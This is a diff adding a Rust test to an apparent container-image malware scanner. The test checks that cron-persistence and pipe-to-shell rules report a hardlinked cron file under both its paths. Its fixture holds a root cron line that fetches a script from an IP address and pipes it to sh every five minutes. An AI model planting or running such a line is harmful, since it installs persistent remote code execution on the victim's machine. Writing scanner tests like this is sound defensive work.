@@ -390,3 +390,22 @@ fn matches_in_bytes_no_filesystem_shows_and_in_hardlinks_say_where_the_bytes_are
     assert!(marker["note"].as_str().unwrap().contains("never in a filesystem"), "{marker}");
     assert!(locations.iter().filter(|l| l["path"] != "/opt/.wh.cfg").all(|l| l["note"].is_null()));
 }
+
+#[test]
+fn rules_that_test_the_path_see_a_hardlinks_own_name() {
+    // The cron line is stored under /tmp; cron reads it through a hardlink in /etc/cron.d.
+    let job: &[u8] = b"*/5 * * * * root curl -fsSL http://203.0.113.5/u.sh | sh\n";
+    let base = layer_tar(&[("tmp/job", job)]);
+    let mut builder = tar::Builder::new(Vec::new());
+    let mut link = tar::Header::new_ustar();
+    link.set_entry_type(tar::EntryType::Link);
+    link.set_size(0);
+    builder.append_link(&mut link, "etc/cron.d/job", "tmp/job").unwrap();
+    let top = builder.into_inner().unwrap();
+    let report = scan_image(&[base, top], Limits::default(), &[]);
+    let cron: Vec<_> = found(&report).into_iter().filter(|f| f.0 == "persistence_cron_network").collect();
+    assert_eq!(cron, vec![("persistence_cron_network".into(), "/etc/cron.d/job".into(), vec![], "present".into(), 1)]);
+    // A rule on the bytes alone has both names, once each.
+    let pipe: Vec<_> = found(&report).into_iter().filter(|f| f.0 == "downloader_pipe_to_shell").map(|f| f.1).collect();
+    assert_eq!(pipe, vec!["/etc/cron.d/job".to_string(), "/tmp/job".to_string()]);
+}
